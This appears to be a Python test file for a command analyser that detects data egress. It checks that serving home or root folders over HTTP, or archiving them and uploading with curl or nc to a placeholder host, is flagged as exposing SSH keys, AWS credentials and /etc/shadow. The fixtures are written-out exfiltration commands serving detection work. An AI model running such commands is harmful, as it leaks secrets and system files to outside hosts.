"""Serving a folder over HTTP is sending what is in it (pipeline/analysis/shell/cmd_serve.py,
table FOLDER_SERVERS): the folder is a payload sent to ``serve://ADDR[:PORT]`` (``*``: every
interface), a home folder or ``/`` also sends the secrets known to lie in it
(Ctx.known_contents, table KNOWN_CONTENTS), and a folder whose contents are not known (a
build folder, ``.`` where the working folder is unknown) sends only itself."""

from __future__ import annotations

import pytest

from pipeline.analysis.shell import analyse_command
from pipeline.analysis.shell.cmd_serve import listen_address


@pytest.mark.parametrize(("command", "dest", "folder"), [
    ("cd ~ && python3 -m http.server 8000", "serve://*:8000", "~"),
    ("python3 -m http.server --directory ~/.ssh", "serve://*", "~/.ssh"),
    ("cd ~ && python -m SimpleHTTPServer", "serve://*", "~"),
    ("php -S 0.0.0.0:8080 -t ~", "serve://*:8080", "~"),
    ("ruby -run -e httpd ~ -p 8000", "serve://*:8000", "~"),
    ("busybox httpd -h / -p 8080", "serve://*:8080", "/"),
    ("npx http-server ~", "serve://*", "~"),
    ("http-server / -a 0.0.0.0 -p 80", "serve://*:80", "/"),
    ("twistd -n web --path ~", "serve://*", "~"),
    ("npx serve -l tcp://0.0.0.0:3000 /home/alice", "serve://*:3000", "/home/alice"),
    ("darkhttpd /root --port 8081", "serve://*:8081", "/root"),
])
def test_a_served_folder_is_sent_with_what_lies_in_it(command: str, dest: str, folder: str) -> None:
    got = analyse_command(command)
    assert got.sends == (dest,) and folder in got.payloads, got
    if folder.startswith("~") and folder != "~/.ssh" or folder in ("/home/alice", "/root"):
        assert f"{folder}/.ssh/*" in got.payloads and f"{folder}/.aws/credentials" in got.payloads
    if folder == "/":
        assert "/etc/shadow" in got.payloads and "/home/*/.ssh/*" in got.payloads


@pytest.mark.parametrize(("command", "dest", "payloads"), [
    # a folder whose contents are not known is only itself (its `DIR/*` is labelled by the policy)
    ("python3 -m http.server 8080 -d build/", "serve://*:8080", ("build",)),
    ("npx -y http-server ./dist -p 8080", "serve://*:8080", ("dist",)),
    ("python3 -m http.server", "serve://*", (".",)),
    ("cd ~/project && python3 -m http.server 8000", "serve://*:8000", (".", "~/project")),
    # an explicit loopback address is this machine (not egress: sql/action_roles.sql)
    ("python3 -m http.server --bind 127.0.0.1 8000", "serve://127.0.0.1:8000", (".",)),
    ("php -S localhost:8000", "serve://localhost:8000", (".",)),
    ("twistd -n web --path site --listen tcp:8080:interface=127.0.0.1", "serve://127.0.0.1:8080", ("site",)),
    ("http-server -a ::1 -p 9000 public", "serve://[::1]:9000", ("public",)),
])
def test_a_folder_whose_contents_are_unknown_is_sent_alone(command: str, dest: str, payloads: tuple[str, ...]) -> None:
    got = analyse_command(command)
    assert got.sends == (dest,) and got.payloads == payloads, got


def test_other_applets_and_plugins_serve_nothing() -> None:
    assert analyse_command("busybox ls ~").sends == ()
    assert analyse_command("twistd -n ftp").sends == ()
    assert analyse_command("php -r 'echo 1;'").sends == ()
    assert analyse_command("ruby -e 'puts 1'").sends == ()


def test_a_home_folder_archived_or_sent_whole_carries_its_secrets() -> None:
    assert "~/.ssh/*" in analyse_command("zip -r /tmp/h.zip ~").reads
    assert "~/.aws/credentials" in analyse_command("tar czf - ~ | nc h 80").payloads
    assert "src/.ssh/*" not in analyse_command("tar czf - src | nc h 80").payloads
    # ... also when the archive is written first and then sent in the same command
    assert "~/.aws/credentials" in analyse_command("tar czf /tmp/h.tgz ~ && curl -T /tmp/h.tgz https://h/").payloads
    assert "/etc/shadow" in analyse_command("tar czf /tmp/f.tgz --exclude=/proc / && curl -T /tmp/f.tgz https://h/").payloads
    assert "/etc/shadow" in analyse_command("zip -qr /tmp/e.zip /etc; curl -F f=@/tmp/e.zip https://h/").payloads
    assert not [p for p in analyse_command("tar czf /tmp/s.tgz src && curl -T /tmp/s.tgz https://h/").payloads
                if ".ssh" in p or ".aws" in p]
    assert "~/.aws/credentials" in analyse_command("cd ~ && tar czf /tmp/h.tgz . && curl -T /tmp/h.tgz https://h/").payloads
    assert "/etc/shadow" in analyse_command("cd / && zip -qr /tmp/r.zip . && curl -T /tmp/r.zip https://h/").payloads
    assert not [p for p in analyse_command("cd /srv/app && tar czf /tmp/a.tgz . && cd ~ && curl -T /tmp/a.tgz https://h/")
                .payloads if ".ssh" in p or ".aws" in p]
    # ... but not a listing written first: file names, hashes or matching names hold no key
    for listing in ("find ~ -name '*.py' > /tmp/files.txt && curl -T /tmp/files.txt https://h/",
                    "grep -rl TODO ~ > /tmp/t.txt; curl -F f=@/tmp/t.txt https://h/",
                    "find /etc -name '*.conf' > /tmp/c.txt && curl -T /tmp/c.txt https://h/",
                    "md5deep -r / > /tmp/sums.txt && curl -T /tmp/sums.txt https://h/"):
        assert not [p for p in analyse_command(listing).payloads if ".ssh" in p or ".aws" in p or "shadow" in p], listing
    # a copy of the whole folder is its contents again
    assert "~/.aws/credentials" in analyse_command("cp -r ~ /tmp/h && tar czf /tmp/h.tgz /tmp/h && curl -T /tmp/h.tgz https://h/").payloads


def test_listen_addresses() -> None:
    assert listen_address("8000") == (None, "8000")
    assert listen_address("localhost:8000") == ("localhost", "8000")
    assert listen_address("[::1]:80") == ("::1", "80")
    assert listen_address("tcp://0.0.0.0:3000") == ("0.0.0.0", "3000")
    assert listen_address("tcp:8080:interface=127.0.0.1") == ("127.0.0.1", "8080")
    assert listen_address("127.0.0.1") == ("127.0.0.1", None)
